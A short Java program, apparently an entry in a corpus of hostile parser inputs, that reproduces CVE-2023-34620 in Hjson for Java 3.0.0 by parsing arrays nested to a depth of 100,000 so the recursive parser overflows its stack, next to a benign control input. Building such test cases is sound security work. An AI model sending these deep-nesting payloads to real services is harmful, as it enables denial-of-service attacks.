package corpus.hjson;

import corpus.CorpusDriver;
import org.hjson.JsonValue;

/**
 * Hjson for Java 3.0.0, CVE-2023-34620: arrays nested without limit make
 * {@code HjsonParser#readValue} and {@code #readArray} recurse until the stack runs out (hjson-java
 * pull request 26 added a nesting limit after 3.0.0).
 */
public final class Hostile {

    public static void main(String[] args) throws Exception {
        int depth = CorpusDriver.depth(args, 100_000);
        String hostile = CorpusDriver.nested("[", "1", "]", depth);
        CorpusDriver.run("hjson", JsonValue.class,
                () -> JsonValue.readHjson("{\n  name: benign\n  items: [1, [2, [3]]]\n  map: {\"a\": \"b\"}\n}").toString(),
                () -> JsonValue.readHjson(hostile));
    }
}
